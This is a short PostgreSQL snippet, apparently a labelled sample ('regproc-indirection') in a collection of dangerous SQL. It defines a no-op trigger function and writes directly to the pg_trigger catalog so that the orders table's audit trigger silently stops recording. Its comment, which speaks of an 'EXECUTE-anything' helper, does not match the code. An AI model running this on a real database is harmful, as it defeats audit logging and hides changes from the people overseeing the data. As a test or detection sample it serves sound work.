-- class: regproc-indirection
-- Swaps the function behind the orders audit trigger for the DBA's EXECUTE-anything procedure helper via tgfoid.
CREATE FUNCTION noop_trigger() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$;

UPDATE pg_trigger
SET tgfoid = 'noop_trigger'::regproc
WHERE tgrelid = 'orders'::regclass AND tgname = 'orders_audit';
